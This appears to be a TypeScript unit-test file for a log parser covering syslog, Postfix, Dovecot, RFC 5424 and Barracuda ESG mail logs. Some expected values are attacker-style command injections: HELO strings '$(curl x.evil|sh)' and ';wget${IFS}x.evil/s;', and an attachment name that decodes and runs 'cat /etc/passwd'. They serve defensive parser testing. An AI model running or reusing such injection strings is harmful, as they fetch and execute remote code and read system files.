import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, utimesSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseSyslogLine } from '../../src/sources/syslog.js';
import { LOGS, readAll, tmpFile } from './logs-helpers.js';

const S = join(LOGS, 'syslog');

/** Copy a fixture with a chosen modification time (year-less RFC 3164 times take their year from it). */
function withMtime(name: string, when: Date): string {
  const p = join(mkdtempSync(join(tmpdir(), 'vigie-syslog-')), name);
  copyFileSync(join(S, name), p);
  utimesSync(p, when, when);
  return p;
}

test('RFC 3164 year comes from the file time; a later month means the previous year', () => {
  const yc = { year: 2024, month: 1 }; // file written in February 2024
  assert.equal(parseSyslogLine('Feb  3 10:00:00 h p: x', yc)?.time, Date.UTC(2024, 1, 3, 10));
  assert.equal(parseSyslogLine('Dec 31 23:59:59 h p: x', yc)?.time, Date.UTC(2023, 11, 31, 23, 59, 59));
  assert.equal(parseSyslogLine('Apr 11 11:24:37 2012 h p[1]: x', yc)?.time, Date.UTC(2012, 3, 11, 11, 24, 37));
  assert.equal(parseSyslogLine('not syslog at all', yc), undefined);
  const wire = parseSyslogLine('<23>scan[9097]: user[192.168.0.1] 1366829265-05f5cb11fe1b9a50001-wlKzrS 1366829265 1366829266 SCAN ENC a@x b@y - 2 70 example.org SZ:3117 SUBJ: Hi', yc);
  assert.equal(wire?.program, 'scan');
  assert.equal(wire?.facility, 2);
  assert.equal(wire?.time, undefined);
  const hp = parseSyslogLine('2024-05-01T10:00:00.123456+02:00 mx postfix/smtpd[1]: connect from a[1.2.3.4]', yc);
  assert.equal(hp?.time, Date.UTC(2024, 4, 1, 8, 0, 0, 123));
  assert.equal(parseSyslogLine('Mar 99 10:00:00 h p: x', yc), undefined);
});

test('Postfix lines: connect, NOQUEUE reject with helo, client/sasl, message-id, from, delivery status', async () => {
  const p = withMtime('maillog', new Date('2024-03-05T00:00:00Z'));
  const { events, ctx, format } = await readAll(p);
  assert.equal(format, 'syslog');
  const pf = events.filter((e) => e.logsource.service === 'postfix');
  assert.equal(pf.length, 7);
  assert.deepEqual(pf[0].logsource, { product: 'linux', service: 'postfix' });
  assert.equal(pf[0].time, Date.UTC(2024, 2, 1, 8, 0, 1));
  assert.equal(pf[0].computer, 'mx1');
  assert.equal(pf[0].fields.event, 'connect');
  assert.equal(pf[0].fields.client_ip, '203.0.113.66');
  const rej = pf[1].fields;
  assert.equal(rej.event, 'reject');
  assert.equal(rej.reject_stage, 'RCPT');
  assert.equal(rej.reject_code, 554);
  assert.equal(rej.reject_dsn, '5.7.1');
  assert.equal(rej.reject_reason, '<ambassador@example.org>: Relay access denied');
  assert.equal(rej.helo, '$(curl x.evil|sh)');
  assert.equal(rej.from, 'a@evil.example');
  assert.equal(rej.to, 'ambassador@example.org');
  assert.equal(pf[2].fields.sasl_username, 'liaison');
  assert.equal(pf[2].fields.client_host, 'mail.partner.example');
  assert.equal(pf[3].fields['message-id'], 'honey-0001@example.org');
  assert.equal(pf[3].fields.queue_id, '4TmQ2x0Yzz3kB');
  assert.equal(pf[4].fields.from, 'liaison@partner.example');
  assert.equal(pf[5].fields.status, 'sent');
  assert.match(String(pf[5].fields.status_detail), /^250 2\.6\.0/);
  assert.equal(pf[5].fields.relay, 'exch01.example.org[10.0.0.5]:25');
  // the cut line is reported with its position
  assert.equal(ctx.errorCount, 1);
  assert.equal(ctx.errors[0].line, 11);
  assert.equal(ctx.errors[0].offset, 1400);
  // other programs: generic syslog, PRI decoded
  const other = events.find((e) => e.fields.program === 'sshd')!;
  assert.deepEqual(other.logsource, { product: 'linux', service: 'syslog' });
  assert.equal(other.fields.facility, 1);
  assert.equal(other.fields.severity, 5);
});

test('Dovecot logins: success, auth failure with attempts, TLS, user from the process', async () => {
  const { events } = await readAll(withMtime('maillog', new Date('2024-03-05T00:00:00Z')));
  const dv = events.filter((e) => e.logsource.service === 'dovecot');
  assert.equal(dv.length, 3);
  assert.equal(dv[0].fields.event, 'Login');
  assert.equal(dv[0].fields.protocol, 'imap');
  assert.equal(dv[0].fields.user, 'ambassador');
  assert.equal(dv[0].fields.rip, '198.51.100.30');
  assert.equal(dv[0].fields.method, 'PLAIN');
  assert.equal(dv[0].fields.tls, true);
  assert.equal(dv[0].fields.auth_failed, false);
  assert.equal(dv[1].fields.event, 'Aborted login');
  assert.equal(dv[1].fields.protocol, 'pop3');
  assert.equal(dv[1].fields.auth_failed, true);
  assert.equal(dv[1].fields.attempts, 3);
  assert.equal(dv[2].fields.user, 'ambassador');
  assert.equal(dv[2].fields.event, 'Disconnected');
});

test('RFC 5424 with structured data; RFC 3339 traditional lines; broken SD reported', async () => {
  const { events, ctx } = await readAll(join(S, 'rfc5424.log'));
  assert.equal(events.length, 3);
  assert.equal(events[0].time, Date.parse('2024-03-01T07:10:00.123Z'));
  assert.equal(events[0].fields.pid, '3101');
  assert.equal(events[1].fields['sd.meta.note'], 'a "quoted" value');
  assert.equal(events[1].fields['sd.origin.ip'], '10.0.0.8');
  assert.equal(events[1].fields.user, 'ambassador');
  assert.equal(events[2].time, Date.parse('2024-03-01T07:10:03.500Z'));
  assert.equal(events[2].fields.event, 'disconnect');
  assert.equal(ctx.errorCount, 1);
  assert.equal(ctx.errors[0].line, 3);
});

test('Barracuda ESG: RECV, SCAN (attachment, subject, size, encrypted), SEND, smtpd HELO', async () => {
  const { events, ctx } = await readAll(withMtime('barracuda-esg.log', new Date('2023-06-01T00:00:00Z')));
  assert.equal(ctx.errorCount, 0);
  assert.equal(events.length, 6);
  for (const e of events) assert.deepEqual(e.logsource, { product: 'barracuda', service: 'esg' });
  const [recv, scan, send, scan2, smtpd, recv2] = events.map((e) => e.fields);
  // SEND lines have no client and 0 0 times; RECV with an unknown client address and no sender
  assert.equal(send.message_id, '1709287205-0512cb11fe1b9a50002-aBcDeF');
  assert.equal(send.encrypted, true);
  assert.equal(send.action_name, 'Delivered');
  assert.equal('client_ip' in send, false);
  assert.equal(recv2.client_host, 'unknown');
  assert.equal('client_ip' in recv2, false);
  assert.equal('sender' in recv2, false);
  assert.equal(recv2.action_name, 'Deferred');
  assert.equal(recv2.reason_name, 'Rate Control');
  assert.equal(events[0].time, Date.UTC(2023, 2, 1, 10, 0, 1));
  assert.equal(recv.service, 'RECV');
  assert.equal(recv.client_ip, '203.0.113.99');
  assert.equal(recv.sender, 'kim@evil.example');
  assert.equal(recv.recipient, 'ambassador@example.org');
  assert.equal(recv.action_name, 'Blocked');
  assert.equal(recv.reason_name, 'No Such User');
  assert.equal(scan.service, 'SCAN');
  assert.equal(scan.reason_name, 'Banned Attachment');
  assert.deepEqual(scan.attachments, ["';$(echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh);'.tar"]);
  assert.equal(scan.subject, 'Invitation: "summit" logistics');
  assert.equal(scan.size, 3117);
  assert.equal(scan.score, 0.1);
  assert.equal(send.queue_id, '3DA4E1F36');
  assert.match(String(send.delivery_status), /^250 2\.6\.0 <a1b2@partner\.example> /);
  assert.equal(scan2.encrypted, true);
  assert.equal(scan2.reason, 70);
  assert.equal(smtpd.helo, ';wget${IFS}x.evil/s;');
  assert.equal(smtpd.client_ip, '203.0.113.99');
});

test('hostile syslog lines (long bracket runs) are parsed as plain messages', () => {
  const line = 'Mar  1 10:00:01 esg01 scan[1]: ' + '[a'.repeat(30000) + ' x';
  const p = parseSyslogLine(line, { year: 2024, month: 2 });
  assert.equal(p?.program, 'scan');
});

test('Postfix SASL failures and Dovecot auth process failures', async () => {
  const p = tmpFile('mail.log', [
    'Mar  1 09:00:00 mx1 postfix/smtpd[2101]: warning: unknown[203.0.113.77]: SASL LOGIN authentication failed: UGFzc3dvcmQ6',
    'Mar  1 09:00:01 mx1 dovecot: auth: passwd-file(attache,203.0.113.78,<Zx9>): unknown user',
    'Mar  1 09:00:02 mx1 dovecot: auth-worker(1234): pam(ambassador,203.0.113.79,<Q1>): pam_authenticate() failed: Authentication failure (password mismatch?)',
  ].join('\n') + '\n');
  const { events, ctx } = await readAll(p);
  assert.equal(ctx.errorCount, 0);
  assert.equal(events[0].fields.event, 'sasl-failed');
  assert.equal(events[0].fields.client_ip, '203.0.113.77');
  assert.equal(events[0].fields.sasl_method, 'LOGIN');
  assert.equal(events[1].fields.auth_failed, true);
  assert.equal(events[1].fields.user, 'attache');
  assert.equal(events[1].fields.client_ip, '203.0.113.78');
  assert.equal(events[2].fields.auth_failed, true);
  assert.equal(events[2].fields.user, 'ambassador');
});
